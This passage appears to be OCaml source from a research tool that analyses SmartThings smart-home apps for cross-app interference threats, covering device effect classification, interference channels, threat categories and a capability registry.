  let buf = Buffer.create 128 in
  Buffer.add_string buf base;
  Buffer.add_string buf ("appname:" ^ t.app_name ^ "/");
  List.iter (fun (var, id) -> Buffer.add_string buf (var ^ ":" ^ id ^ "/")) t.devices;
  List.iter (fun (var, v) -> Buffer.add_string buf (var ^ ":" ^ v ^ "/")) t.values;
  Buffer.contents buf

exception Malformed of string

let decode uri =
  let payload =
    if String.length uri >= String.length base && String.sub uri 0 (String.length base) = base
    then String.sub uri (String.length base) (String.length uri - String.length base)
    else raise (Malformed "missing scheme/host prefix")
  in
  let segments = List.filter (fun s -> s <> "") (String.split_on_char '/' payload) in
  let parse_segment seg =
    match String.index_opt seg ':' with
    | Some i -> (String.sub seg 0 i, String.sub seg (i + 1) (String.length seg - i - 1))
    | None -> raise (Malformed ("segment without ':': " ^ seg))
  in
  match List.map parse_segment segments with
  | ("appname", app_name) :: rest ->
    let devices, values = List.partition (fun (_, v) -> is_hex_id v) rest in
    { app_name; devices; values }
  | _ -> raise (Malformed "first segment must be appname")
