lib/config/messaging.mli:
