lib/config/instrument.ml: Config_uri Homeguard_groovy Homeguard_rules Homeguard_symexec List String
