lib/config/recorder.ml: Config_uri Homeguard_detector Homeguard_rules Homeguard_solver List Option
