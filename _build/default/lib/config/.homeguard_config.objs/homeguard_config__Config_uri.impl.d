lib/config/config_uri.ml: Buffer List String
