lib/config/recorder.mli: Config_uri Homeguard_detector Homeguard_rules Homeguard_solver
