lib/config/config_uri.mli:
