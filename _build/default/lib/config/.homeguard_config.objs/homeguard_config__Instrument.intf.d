lib/config/instrument.mli: Homeguard_groovy
