lib/config/messaging.ml: List
