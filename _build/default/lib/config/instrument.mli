(** Source-to-source instrumentation inserting the configuration
    collection of paper Listing 3. *)

module Ast = Homeguard_groovy.Ast

val instrument_program :
  ?transport:[ `Sms | `Http ] -> app_name:string -> Ast.program -> Ast.program
(** Adds the [patchedphone] input, appends the collection preamble to
    [updated] (creating it if absent) and the [collectConfigInfo]
    helper. *)

val instrument_source : ?transport:[ `Sms | `Http ] -> app_name:string -> string -> string

val collected_uri :
  app_name:string ->
  device_bindings:(string * string) list ->
  value_bindings:(string * string) list ->
  string
(** What the instrumented [updated] produces for concrete bindings. *)
