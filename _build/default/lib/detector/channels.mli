(** Interference channels: the two ways one rule's action reaches
    another rule — direct attribute writes and environment features
    (paper §VI-B, §VI-C). *)

module Rule = Homeguard_rules.Rule
module Formula = Homeguard_solver.Formula
module Term = Homeguard_solver.Term
module Env = Homeguard_st.Env_feature

type attr_write = {
  w_target : Rule.action_target;
  w_attr : string;
  w_value : Term.t option;
}

val attribute_writes : Rule.smartapp -> Rule.action -> attr_write list

val environment_effects :
  Rule.smartapp -> Rule.action -> (Env.t * Effects.polarity) list

val sensed_feature_of_trigger : Rule.trigger -> Env.t option

val vars_sensing : Env.t -> Formula.t -> string list
(** Variables of a formula whose attribute measures the feature. *)

type direction_need = Needs_high | Needs_low | Needs_value of Term.t | Needs_any

val direction_needs : Formula.t -> string -> direction_need list
(** How the (NNF of the) formula constrains a variable. *)

val polarity_can_satisfy : Formula.t -> string -> Effects.polarity -> bool
(** Could a change in this direction help satisfy the formula? *)
