(** CAI threat categories and detection reports (paper Table I). *)

module Rule = Homeguard_rules.Rule

type category =
  | AR  (** Actuator Race: contradictory actions on the same actuator *)
  | GC  (** Goal Conflict: actions with contradictory goals *)
  | CT  (** Covert Triggering: rule 1's action triggers rule 2 *)
  | SD  (** Self Disabling: triggered rule 2 undoes rule 1's action *)
  | LT  (** Loop Triggering: mutual triggering with contradictory actions *)
  | EC  (** Enabling-Condition interference *)
  | DC  (** Disabling-Condition interference *)

let all_categories = [ AR; GC; CT; SD; LT; EC; DC ]

let category_to_string = function
  | AR -> "AR"
  | GC -> "GC"
  | CT -> "CT"
  | SD -> "SD"
  | LT -> "LT"
  | EC -> "EC"
  | DC -> "DC"

let category_name = function
  | AR -> "Actuator Race"
  | GC -> "Goal Conflict"
  | CT -> "Covert Triggering"
  | SD -> "Self Disabling"
  | LT -> "Loop Triggering"
  | EC -> "Enabling-Condition Interference"
  | DC -> "Disabling-Condition Interference"

(** Categories are directional except AR, GC and LT: the threat record
    always reads "rule1 interferes with rule2". *)
let is_directional = function CT | SD | EC | DC -> true | AR | GC | LT -> false

type t = {
  category : category;
  app1 : Rule.smartapp;
  rule1 : Rule.t;
  app2 : Rule.smartapp;
  rule2 : Rule.t;
  witness : Homeguard_solver.Search.model option;
      (** a concrete situation in which the interference manifests *)
  detail : string;  (** which devices/goals/attributes are involved *)
}

let make category (app1, rule1) (app2, rule2) ?witness detail =
  { category; app1; rule1; app2; rule2; witness; detail }

let to_string t =
  Printf.sprintf "[%s] %s <-> %s: %s"
    (category_to_string t.category)
    t.rule1.Rule.rule_id t.rule2.Rule.rule_id t.detail
