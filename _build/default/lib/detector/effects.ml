(** Goal analysis: effects of actions on measurable home properties.

    The paper's M_GC mapping (§VI-A1) records how each command of a
    device type affects goal properties such as temperature or
    illuminance, denoted + (increasing), − (decreasing) or # (irrelevant).
    Because many devices are bound through bare [capability.switch], the
    device *class* is derived from the input declaration and app
    description, exactly as the paper's evaluation disambiguates switch
    devices (§VIII-B). *)

module Rule = Homeguard_rules.Rule
module Env = Homeguard_st.Env_feature
module Term = Homeguard_solver.Term

type polarity = Incr | Decr

type device_class =
  | Light
  | Outlet
  | Tv
  | Heater
  | Air_conditioner
  | Fan
  | Window_opener
  | Curtain
  | Speaker
  | Camera
  | Coffee_maker
  | Humidifier
  | Generic_switch
  | Lock_device
  | Door
  | Valve_device
  | Thermostat_device
  | Alarm_device
  | Shade
  | Music_player
  | Other of string  (** capability name for non-switch devices *)

let class_to_string = function
  | Light -> "light"
  | Outlet -> "outlet"
  | Tv -> "tv"
  | Heater -> "heater"
  | Air_conditioner -> "air conditioner"
  | Fan -> "fan"
  | Window_opener -> "window opener"
  | Curtain -> "curtain"
  | Speaker -> "speaker"
  | Camera -> "camera"
  | Coffee_maker -> "coffee maker"
  | Humidifier -> "humidifier"
  | Generic_switch -> "switch"
  | Lock_device -> "lock"
  | Door -> "door"
  | Valve_device -> "valve"
  | Thermostat_device -> "thermostat"
  | Alarm_device -> "alarm"
  | Shade -> "shade"
  | Music_player -> "music player"
  | Other cap -> cap

let contains_word haystack word =
  let h = String.lowercase_ascii haystack and n = String.length word in
  let hl = String.length h in
  let rec go i = i + n <= hl && (String.sub h i n = word || go (i + 1)) in
  go 0

(* Keyword classification of a switch-bound device from its input
   variable name, title and the app's name/description. *)
(* Function-bearing words win over mounting words: a "heater outlet" is a
   heater that happens to be plugged in, so "outlet"/"plug" are checked
   last. *)
let classify_switch_text text =
  let has w = contains_word text w in
  if has "light" || has "lamp" || has "bulb" || has "led" then Light
  else if has "tv" || has "television" then Tv
  else if has "heater" || has "heating" then Heater
  else if has "air condition" || has " ac " || has "a/c" || has "aircon" then Air_conditioner
  else if has "fan" then Fan
  else if has "window" then Window_opener
  else if has "curtain" || has "blind" then Curtain
  else if has "speaker" || has "sound" then Speaker
  else if has "camera" then Camera
  else if has "coffee" then Coffee_maker
  else if has "humidifier" then Humidifier
  else if has "outlet" || has "plug" then Outlet
  else Generic_switch

(** Device class of an input variable given app metadata. *)
let classify (app : Rule.smartapp) var =
  match Rule.capability_of_input app var with
  | None -> Other "unknown"
  | Some cap -> (
    match cap with
    | "lock" -> Lock_device
    | "doorControl" | "garageDoorControl" -> Door
    | "valve" -> Valve_device
    | "thermostat" | "thermostatHeatingSetpoint" | "thermostatCoolingSetpoint" ->
      Thermostat_device
    | "alarm" -> Alarm_device
    | "windowShade" -> Shade
    | "musicPlayer" -> Music_player
    | "switch" | "switchLevel" -> (
      (* the input's own name and title are authoritative; the app name
         and description only break ties *)
      let input = List.find_opt (fun i -> i.Rule.var = var) app.Rule.inputs in
      let title = match input with Some { Rule.title = Some t; _ } -> t | _ -> "" in
      match classify_switch_text (var ^ " " ^ title) with
      | Generic_switch ->
        classify_switch_text (String.concat " " [ app.Rule.name; app.Rule.description ])
      | cls -> cls)
    | cap -> Other cap)

(* Power draw of switching a device class on. *)
let draws_power = function
  | Light | Outlet | Tv | Heater | Air_conditioner | Fan | Speaker | Camera | Coffee_maker
  | Humidifier | Generic_switch | Music_player ->
    true
  | Window_opener | Curtain | Lock_device | Door | Valve_device | Thermostat_device
  | Alarm_device | Shade | Other _ ->
    false

(* Environment effects of activating a device class. *)
let activation_effects = function
  | Light -> [ (Env.Illuminance, Incr) ]
  | Tv -> [ (Env.Noise, Incr) ]
  | Heater -> [ (Env.Temperature, Incr) ]
  | Air_conditioner -> [ (Env.Temperature, Decr) ]
  | Fan -> [ (Env.Temperature, Decr) ]
  | Window_opener -> [ (Env.Temperature, Decr) ]
  | Curtain | Shade -> [ (Env.Illuminance, Incr) ]
  | Speaker | Music_player -> [ (Env.Noise, Incr) ]
  | Humidifier -> [ (Env.Humidity, Incr) ]
  | Alarm_device -> [ (Env.Noise, Incr) ]
  | Outlet | Camera | Coffee_maker | Generic_switch | Lock_device | Door | Valve_device
  | Thermostat_device | Other _ ->
    []

let negate_effects effects =
  List.map (fun (f, p) -> (f, match p with Incr -> Decr | Decr -> Incr)) effects

(** Environment effects (the M_GC entry) of executing [action] declared
    by [app]. Virtual actuators (mode, messaging) have no entry
    (paper: "virtual actuators that have no direct effect on the goal
    properties are not included"). *)
let effects_of_action (app : Rule.smartapp) (action : Rule.action) :
    (Env.t * polarity) list =
  match action.Rule.target with
  | Rule.Act_location_mode | Rule.Act_messaging | Rule.Act_http | Rule.Act_hub -> []
  | Rule.Act_device var -> (
    let cls = classify app var in
    let power_on =
      if draws_power cls then [ (Env.Power, Incr); (Env.Energy, Incr) ] else []
    in
    let power_off = if draws_power cls then [ (Env.Power, Decr) ] else [] in
    match action.Rule.command with
    | "on" | "play" -> activation_effects cls @ power_on
    | "off" | "stop" | "pause" -> negate_effects (activation_effects cls) @ power_off
    | "open" -> (
      match cls with
      | Door -> [ (Env.Temperature, Decr); (Env.Noise, Incr) ]
      | Valve_device -> [ (Env.Moisture, Incr) ]
      | Shade | Curtain -> [ (Env.Illuminance, Incr) ]
      | Window_opener -> [ (Env.Temperature, Decr); (Env.Noise, Incr) ]
      | _ -> activation_effects cls)
    | "close" -> (
      match cls with
      | Door -> [ (Env.Temperature, Incr) ]
      | Valve_device -> [ (Env.Moisture, Decr) ]
      | Shade | Curtain -> [ (Env.Illuminance, Decr) ]
      | Window_opener -> [ (Env.Temperature, Incr) ]
      | _ -> negate_effects (activation_effects cls))
    | "heat" | "setHeatingSetpoint" | "emergencyHeat" -> [ (Env.Temperature, Incr) ]
    | "cool" | "setCoolingSetpoint" -> [ (Env.Temperature, Decr) ]
    | "fanOn" | "fanCirculate" -> [ (Env.Temperature, Decr) ]
    | "siren" | "strobe" | "both" | "beep" -> [ (Env.Noise, Incr) ]
    | "setLevel" -> (
      match cls with
      | Light -> [ (Env.Illuminance, Incr) ]
      | Speaker | Music_player -> [ (Env.Noise, Incr) ]
      | _ -> [])
    | _ -> [])

(** Opposite-polarity overlap of two effect lists: the goal properties
    the two actions fight over. Power/energy are deliberately excluded —
    they would flag every on-vs-off pair — but remain available to the
    condition/trigger channels (e.g. the EnergySaver Self-Disabling
    case). *)
let conflicting_goals effs1 effs2 =
  List.filter_map
    (fun (f1, p1) ->
      match f1 with
      | Env.Power | Env.Energy -> None
      | _ -> (
        match List.assoc_opt f1 effs2 with
        | Some p2 when p1 <> p2 -> Some f1
        | _ -> None))
    effs1
