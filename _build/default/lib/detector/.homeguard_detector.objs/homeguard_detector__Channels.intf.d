lib/detector/channels.mli: Effects Homeguard_rules Homeguard_solver Homeguard_st
