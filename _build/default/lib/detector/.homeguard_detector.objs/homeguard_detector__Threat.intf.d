lib/detector/threat.mli: Homeguard_rules Homeguard_solver
