lib/detector/threat.ml: Homeguard_rules Homeguard_solver Printf
