lib/detector/detector.ml: Channels Effects Hashtbl Homeguard_rules Homeguard_solver Homeguard_st List Printf String Threat
