lib/detector/chain.mli: Threat
