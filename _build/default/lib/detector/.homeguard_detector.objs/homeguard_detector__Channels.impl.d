lib/detector/channels.ml: Effects Homeguard_rules Homeguard_solver Homeguard_st List Option String
