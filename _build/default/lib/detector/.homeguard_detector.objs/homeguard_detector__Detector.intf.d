lib/detector/detector.mli: Hashtbl Homeguard_rules Homeguard_solver Threat
