lib/detector/effects.mli: Homeguard_rules Homeguard_st
