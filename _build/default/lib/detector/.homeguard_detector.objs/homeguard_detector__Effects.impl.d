lib/detector/effects.ml: Homeguard_rules Homeguard_solver Homeguard_st List String
