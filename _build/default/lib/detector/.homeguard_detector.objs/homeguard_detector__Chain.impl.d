lib/detector/chain.ml: Homeguard_rules List String Threat
