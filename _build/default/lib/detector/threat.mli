(** CAI threat categories (paper Table I) and detection reports. *)

module Rule = Homeguard_rules.Rule

type category = AR | GC | CT | SD | LT | EC | DC

val all_categories : category list
val category_to_string : category -> string
val category_name : category -> string

val is_directional : category -> bool
(** CT/SD/EC/DC read "rule1 interferes with rule2". *)

type t = {
  category : category;
  app1 : Rule.smartapp;
  rule1 : Rule.t;
  app2 : Rule.smartapp;
  rule2 : Rule.t;
  witness : Homeguard_solver.Search.model option;
  detail : string;
}

val make :
  category ->
  Rule.smartapp * Rule.t ->
  Rule.smartapp * Rule.t ->
  ?witness:Homeguard_solver.Search.model ->
  string ->
  t

val to_string : t -> string
