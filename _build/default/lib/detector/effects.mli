(** Goal analysis: device classes and the M_GC effect map from commands
    to measurable home properties (paper §VI-A1). *)

module Rule = Homeguard_rules.Rule
module Env = Homeguard_st.Env_feature

type polarity = Incr | Decr

type device_class =
  | Light
  | Outlet
  | Tv
  | Heater
  | Air_conditioner
  | Fan
  | Window_opener
  | Curtain
  | Speaker
  | Camera
  | Coffee_maker
  | Humidifier
  | Generic_switch
  | Lock_device
  | Door
  | Valve_device
  | Thermostat_device
  | Alarm_device
  | Shade
  | Music_player
  | Other of string

val class_to_string : device_class -> string

val classify_switch_text : string -> device_class
(** Keyword classification of free text describing a switch device. *)

val classify : Rule.smartapp -> string -> device_class
(** Class of an input variable: by capability, with switches
    disambiguated by variable name and title first, app text second. *)

val effects_of_action : Rule.smartapp -> Rule.action -> (Env.t * polarity) list
(** The M_GC entry for one action; empty for virtual actuators. *)

val conflicting_goals :
  (Env.t * polarity) list -> (Env.t * polarity) list -> Env.t list
(** Goal properties two effect sets push in opposite directions
    (power/energy excluded — every on/off pair would conflict). *)
