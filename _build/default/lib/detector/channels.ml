(** Interference channels between an action and another rule's
    trigger/condition.

    Two ways a rule's action reaches another rule (paper §VI-B, §VI-C):
    (1) directly, by writing a device attribute (or the location mode)
    the other rule subscribes to or tests; (2) through the environment,
    by changing a feature some sensor measures. This module computes the
    attribute writes and the sensed-variable matches. *)

module Rule = Homeguard_rules.Rule
module Term = Homeguard_solver.Term
module Formula = Homeguard_solver.Formula
module Capability = Homeguard_st.Capability
module Env = Homeguard_st.Env_feature

(** An attribute write performed by an action: on device variable [var]
    (of the acting app), attribute [attr], to [value] if statically
    fixed. *)
type attr_write = { w_target : Rule.action_target; w_attr : string; w_value : Term.t option }

(** [attribute_writes app action] — the direct state changes an action
    makes (way 1). *)
let attribute_writes (app : Rule.smartapp) (action : Rule.action) : attr_write list =
  match action.Rule.target with
  | Rule.Act_location_mode ->
    let value = match action.Rule.params with v :: _ -> Some v | [] -> None in
    [ { w_target = action.Rule.target; w_attr = "mode"; w_value = value } ]
  | Rule.Act_messaging | Rule.Act_http | Rule.Act_hub -> []
  | Rule.Act_device var -> (
    let caps =
      match Rule.capability_of_input app var with
      | Some cap_name -> ( match Capability.find cap_name with Some c -> [ c ] | None -> [])
      | None -> Capability.capabilities_with_command action.Rule.command
    in
    match
      List.find_map
        (fun cap ->
          Option.bind (Capability.command_of cap action.Rule.command) (fun c ->
              c.Capability.writes))
        caps
    with
    | Some { Capability.target_attr; fixed_value } ->
      let value =
        match fixed_value with
        | Some v -> Some (Term.Str v)
        | None -> ( match action.Rule.params with p :: _ -> Some p | [] -> None)
      in
      [ { w_target = action.Rule.target; w_attr = target_attr; w_value = value } ]
    | None -> [])

(** Environment features an action perturbs, with direction. *)
let environment_effects = Effects.effects_of_action

(** The environment feature a trigger subscription senses, if its
    subject attribute is an environment measurement. *)
let sensed_feature_of_trigger (trigger : Rule.trigger) =
  match trigger with
  | Rule.Event { attribute; _ } -> Env.of_sensor_attribute attribute
  | Rule.Scheduled _ -> None

(** Variables of a formula that sense the given environment feature,
    e.g. feature [Temperature] matches variable "tSensor.temperature". *)
let vars_sensing feature formula =
  List.filter
    (fun var ->
      match String.rindex_opt var '.' with
      | Some i ->
        let attr = String.sub var (i + 1) (String.length var - i - 1) in
        Env.of_sensor_attribute attr = Some feature
      | None -> false)
    (Formula.free_vars formula)

(** How a formula constrains a variable: which direction of change could
    satisfy (or violate) it. Derived from the comparison atoms that
    mention the variable. *)
type direction_need = Needs_high | Needs_low | Needs_value of Term.t | Needs_any

let direction_needs formula var =
  (* NNF first so negations are folded into comparators and the atom
     directions below are literal *)
  let formula = Formula.nnf formula in
  let needs = ref [] in
  let note n = if not (List.mem n !needs) then needs := n :: !needs in
  let rec go = function
    | Formula.True | Formula.False -> ()
    | Formula.Atom (cmp, a, b) -> (
      match (a, b) with
      | Term.Var v, other when v = var -> (
        match cmp with
        | Formula.Gt | Formula.Ge -> note Needs_high
        | Formula.Lt | Formula.Le -> note Needs_low
        | Formula.Eq -> note (Needs_value other)
        | Formula.Neq -> note Needs_any)
      | other, Term.Var v when v = var -> (
        match cmp with
        | Formula.Gt | Formula.Ge -> note Needs_low
        | Formula.Lt | Formula.Le -> note Needs_high
        | Formula.Eq -> note (Needs_value other)
        | Formula.Neq -> note Needs_any)
      | _ ->
        if List.mem var (Term.free_vars a) || List.mem var (Term.free_vars b) then
          note Needs_any)
    | Formula.And fs | Formula.Or fs -> List.iter go fs
    | Formula.Not f -> go f
  in
  go formula;
  !needs

(** Can a change of [polarity] on [var] help satisfy [formula]? True
    when some atom wants the direction the effect pushes, or when the
    constraint shape is too complex to rule it out. *)
let polarity_can_satisfy formula var (polarity : Effects.polarity) =
  match direction_needs formula var with
  | [] -> false
  | needs ->
    List.exists
      (fun n ->
        match (n, polarity) with
        | Needs_high, Effects.Incr | Needs_low, Effects.Decr -> true
        | Needs_value _, _ | Needs_any, _ -> true
        | Needs_high, Effects.Decr | Needs_low, Effects.Incr -> false)
      needs
