(** The SmartThings SmartApp API surface relevant to rule extraction:
    Table VI's sensitive sinks and the scheduling APIs. *)

type kind =
  | Http
  | Delayed_run of [ `Seconds_arg ]
  | Periodic_run of int  (** period in seconds *)
  | Run_once
  | Daily_schedule
  | Hub_command
  | Sms
  | Push_notification
  | Set_location_mode

val sink_apis : (string * kind) list
val kind_of : string -> kind option
val is_table_vi_sink : string -> bool
val is_scheduling : string -> bool
val entry_points : string list
val ui_methods : string list
