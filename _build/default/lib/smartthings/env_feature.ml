(** Measurable home-environment features (paper §II-A, Fig 1).

    Actuators influence these features either directly (a switch changes
    its own attribute) or through the environment (a heater raises the
    temperature a temperature sensor later reports). The detector's
    channel analysis and the simulator's physics both key off this type. *)

type t =
  | Temperature
  | Illuminance
  | Humidity
  | Power  (** instantaneous consumption, W *)
  | Energy  (** cumulative consumption, kWh *)
  | Noise
  | Moisture  (** water presence *)
  | Smoke
  | Carbon_monoxide

let all =
  [ Temperature; Illuminance; Humidity; Power; Energy; Noise; Moisture; Smoke; Carbon_monoxide ]

let to_string = function
  | Temperature -> "temperature"
  | Illuminance -> "illuminance"
  | Humidity -> "humidity"
  | Power -> "power"
  | Energy -> "energy"
  | Noise -> "noise"
  | Moisture -> "moisture"
  | Smoke -> "smoke"
  | Carbon_monoxide -> "carbon monoxide"

(** Which environment feature does a sensor attribute measure? *)
let of_sensor_attribute = function
  | "temperature" -> Some Temperature
  | "illuminance" -> Some Illuminance
  | "humidity" -> Some Humidity
  | "power" -> Some Power
  | "energy" -> Some Energy
  | "soundPressureLevel" -> Some Noise
  | "water" -> Some Moisture
  | "smoke" -> Some Smoke
  | "carbonMonoxide" -> Some Carbon_monoxide
  | _ -> None
