(** The location object: platform-level home state.

    SmartThings exposes a per-home [location] with a set of user-defined
    modes ("Home", "Away", "Night", ...). Mode is both a sensor (rules
    trigger on and test it) and an actuator (rules call
    [setLocationMode]), making it a frequent CAI participant (Fig 8's
    "Mode" group). *)

type t = {
  mutable modes : string list;
  mutable current_mode : string;
  mutable sunrise_minutes : int;  (** minutes after midnight *)
  mutable sunset_minutes : int;
}

let default_modes = [ "Home"; "Away"; "Night" ]

let create ?(modes = default_modes) ?(current_mode = "Home") () =
  { modes; current_mode; sunrise_minutes = 6 * 60 + 30; sunset_minutes = 19 * 60 + 45 }

let set_mode loc mode =
  if not (List.mem mode loc.modes) then loc.modes <- loc.modes @ [ mode ];
  loc.current_mode <- mode

(** Attribute name under which mode changes are broadcast. *)
let mode_attribute = "mode"
