(** The per-home location object: modes and sun times. *)

type t = {
  mutable modes : string list;
  mutable current_mode : string;
  mutable sunrise_minutes : int;
  mutable sunset_minutes : int;
}

val default_modes : string list
val create : ?modes:string list -> ?current_mode:string -> unit -> t

val set_mode : t -> string -> unit
(** Unknown modes are registered on first use. *)

val mode_attribute : string
