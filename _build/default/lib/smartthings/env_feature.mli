(** Measurable home-environment features (paper Fig 1's data layer). *)

type t =
  | Temperature
  | Illuminance
  | Humidity
  | Power
  | Energy
  | Noise
  | Moisture
  | Smoke
  | Carbon_monoxide

val all : t list
val to_string : t -> string

val of_sensor_attribute : string -> t option
(** The feature a sensor attribute measures, if any. *)
