(** SmartThings capability registry.

    Capabilities abstract device types (paper Appendix A): each declares
    attributes (readable states with a value domain) and commands
    (capability-protected sinks). The registry below models the
    capabilities the SmartThings public repository exercises, including
    the attribute each command writes and the contradiction relation
    between commands (needed for Actuator-Race detection, A1 = not A2). *)

type value_domain =
  | Enum of string list  (** finite set of symbolic attribute values *)
  | Numeric of int * int  (** bounded integer range (inclusive) *)

type attribute = { attr_name : string; domain : value_domain }

type effect_on_attr = {
  target_attr : string;  (** attribute the command writes *)
  fixed_value : string option;
      (** [Some v] if the command always sets the attribute to enum value
          [v]; [None] if the written value comes from the first command
          parameter (e.g. [setLevel]) *)
}

type command = {
  cmd_name : string;
  cmd_params : value_domain list;
  writes : effect_on_attr option;
  opposite : string option;  (** name of the contradictory command, if any *)
}

type t = {
  cap_name : string;  (** short name; requested as ["capability." ^ cap_name] *)
  attributes : attribute list;
  commands : command list;
  is_actuator : bool;
}

let pct = Numeric (0, 100)

let cmd ?(params = []) ?writes ?opposite name =
  { cmd_name = name; cmd_params = params; writes; opposite }

let set ?v attr = { target_attr = attr; fixed_value = v }

let sensor name attrs = { cap_name = name; attributes = attrs; commands = []; is_actuator = false }

let actuator name attrs cmds =
  { cap_name = name; attributes = attrs; commands = cmds; is_actuator = true }

(* Registry. Attribute domains follow the SmartThings capabilities
   reference; numeric bounds are the documented or physically sensible
   ranges used to bound solver domains. *)
let registry : t list =
  [
    actuator "switch"
      [ { attr_name = "switch"; domain = Enum [ "on"; "off" ] } ]
      [
        cmd "on" ~writes:(set "switch" ~v:"on") ~opposite:"off";
        cmd "off" ~writes:(set "switch" ~v:"off") ~opposite:"on";
      ];
    actuator "switchLevel"
      [ { attr_name = "level"; domain = pct } ]
      [ cmd "setLevel" ~params:[ pct ] ~writes:(set "level") ];
    actuator "lock"
      [ { attr_name = "lock"; domain = Enum [ "locked"; "unlocked"; "unknown" ] } ]
      [
        cmd "lock" ~writes:(set "lock" ~v:"locked") ~opposite:"unlock";
        cmd "unlock" ~writes:(set "lock" ~v:"unlocked") ~opposite:"lock";
      ];
    actuator "doorControl"
      [ { attr_name = "door"; domain = Enum [ "open"; "closed"; "opening"; "closing"; "unknown" ] } ]
      [
        cmd "open" ~writes:(set "door" ~v:"open") ~opposite:"close";
        cmd "close" ~writes:(set "door" ~v:"closed") ~opposite:"open";
      ];
    actuator "garageDoorControl"
      [ { attr_name = "door"; domain = Enum [ "open"; "closed"; "opening"; "closing"; "unknown" ] } ]
      [
        cmd "open" ~writes:(set "door" ~v:"open") ~opposite:"close";
        cmd "close" ~writes:(set "door" ~v:"closed") ~opposite:"open";
      ];
    actuator "windowShade"
      [ { attr_name = "windowShade"; domain = Enum [ "open"; "closed"; "partially open" ] } ]
      [
        cmd "open" ~writes:(set "windowShade" ~v:"open") ~opposite:"close";
        cmd "close" ~writes:(set "windowShade" ~v:"closed") ~opposite:"open";
        cmd "presetPosition" ~writes:(set "windowShade" ~v:"partially open");
      ];
    actuator "valve"
      [ { attr_name = "valve"; domain = Enum [ "open"; "closed" ] } ]
      [
        cmd "open" ~writes:(set "valve" ~v:"open") ~opposite:"close";
        cmd "close" ~writes:(set "valve" ~v:"closed") ~opposite:"open";
      ];
    actuator "alarm"
      [ { attr_name = "alarm"; domain = Enum [ "off"; "siren"; "strobe"; "both" ] } ]
      [
        cmd "off" ~writes:(set "alarm" ~v:"off");
        cmd "siren" ~writes:(set "alarm" ~v:"siren") ~opposite:"off";
        cmd "strobe" ~writes:(set "alarm" ~v:"strobe") ~opposite:"off";
        cmd "both" ~writes:(set "alarm" ~v:"both") ~opposite:"off";
      ];
    actuator "thermostat"
      [
        { attr_name = "temperature"; domain = Numeric (-40, 150) };
        { attr_name = "heatingSetpoint"; domain = Numeric (35, 95) };
        { attr_name = "coolingSetpoint"; domain = Numeric (35, 95) };
        { attr_name = "thermostatMode"; domain = Enum [ "auto"; "heat"; "cool"; "off"; "emergency heat" ] };
        { attr_name = "thermostatFanMode"; domain = Enum [ "auto"; "on"; "circulate" ] };
        {
          attr_name = "thermostatOperatingState";
          domain = Enum [ "heating"; "cooling"; "idle"; "fan only" ];
        };
      ]
      [
        cmd "setHeatingSetpoint" ~params:[ Numeric (35, 95) ] ~writes:(set "heatingSetpoint");
        cmd "setCoolingSetpoint" ~params:[ Numeric (35, 95) ] ~writes:(set "coolingSetpoint");
        cmd "setThermostatMode"
          ~params:[ Enum [ "auto"; "heat"; "cool"; "off"; "emergency heat" ] ]
          ~writes:(set "thermostatMode");
        cmd "setThermostatFanMode"
          ~params:[ Enum [ "auto"; "on"; "circulate" ] ]
          ~writes:(set "thermostatFanMode");
        cmd "heat" ~writes:(set "thermostatMode" ~v:"heat") ~opposite:"cool";
        cmd "cool" ~writes:(set "thermostatMode" ~v:"cool") ~opposite:"heat";
        cmd "auto" ~writes:(set "thermostatMode" ~v:"auto");
        cmd "off" ~writes:(set "thermostatMode" ~v:"off");
        cmd "fanOn" ~writes:(set "thermostatFanMode" ~v:"on") ~opposite:"fanAuto";
        cmd "fanAuto" ~writes:(set "thermostatFanMode" ~v:"auto") ~opposite:"fanOn";
        cmd "fanCirculate" ~writes:(set "thermostatFanMode" ~v:"circulate");
      ];
    actuator "thermostatHeatingSetpoint"
      [ { attr_name = "heatingSetpoint"; domain = Numeric (35, 95) } ]
      [ cmd "setHeatingSetpoint" ~params:[ Numeric (35, 95) ] ~writes:(set "heatingSetpoint") ];
    actuator "thermostatCoolingSetpoint"
      [ { attr_name = "coolingSetpoint"; domain = Numeric (35, 95) } ]
      [ cmd "setCoolingSetpoint" ~params:[ Numeric (35, 95) ] ~writes:(set "coolingSetpoint") ];
    actuator "colorControl"
      [
        { attr_name = "hue"; domain = pct };
        { attr_name = "saturation"; domain = pct };
        { attr_name = "color"; domain = Enum [ "red"; "green"; "blue"; "white"; "yellow"; "purple" ] };
      ]
      [
        cmd "setHue" ~params:[ pct ] ~writes:(set "hue");
        cmd "setSaturation" ~params:[ pct ] ~writes:(set "saturation");
        cmd "setColor"
          ~params:[ Enum [ "red"; "green"; "blue"; "white"; "yellow"; "purple" ] ]
          ~writes:(set "color");
      ];
    actuator "colorTemperature"
      [ { attr_name = "colorTemperature"; domain = Numeric (1000, 30000) } ]
      [ cmd "setColorTemperature" ~params:[ Numeric (1000, 30000) ] ~writes:(set "colorTemperature") ];
    actuator "musicPlayer"
      [
        { attr_name = "status"; domain = Enum [ "playing"; "paused"; "stopped" ] };
        { attr_name = "level"; domain = pct };
        { attr_name = "mute"; domain = Enum [ "muted"; "unmuted" ] };
      ]
      [
        cmd "play" ~writes:(set "status" ~v:"playing") ~opposite:"stop";
        cmd "pause" ~writes:(set "status" ~v:"paused") ~opposite:"play";
        cmd "stop" ~writes:(set "status" ~v:"stopped") ~opposite:"play";
        cmd "setLevel" ~params:[ pct ] ~writes:(set "level");
        cmd "mute" ~writes:(set "mute" ~v:"muted") ~opposite:"unmute";
        cmd "unmute" ~writes:(set "mute" ~v:"unmuted") ~opposite:"mute";
        cmd "playText" ~params:[ Enum [] ];
        cmd "playTrack" ~params:[ Enum [] ];
      ];
    actuator "speechSynthesis" [] [ cmd "speak" ~params:[ Enum [] ] ];
    actuator "tone" [] [ cmd "beep" ];
    actuator "notification" [] [ cmd "deviceNotification" ~params:[ Enum [] ] ];
    actuator "imageCapture"
      [ { attr_name = "image"; domain = Enum [ "captured"; "idle" ] } ]
      [ cmd "take" ~writes:(set "image" ~v:"captured") ];
    actuator "polling" [] [ cmd "poll" ];
    actuator "refresh" [] [ cmd "refresh" ];
    actuator "momentary" [] [ cmd "push" ];
    actuator "timedSession"
      [ { attr_name = "sessionStatus"; domain = Enum [ "running"; "stopped"; "paused"; "canceled" ] } ]
      [
        cmd "start" ~writes:(set "sessionStatus" ~v:"running") ~opposite:"stop";
        cmd "stop" ~writes:(set "sessionStatus" ~v:"stopped") ~opposite:"start";
        cmd "pause" ~writes:(set "sessionStatus" ~v:"paused");
        cmd "cancel" ~writes:(set "sessionStatus" ~v:"canceled");
      ];
    (* sensors *)
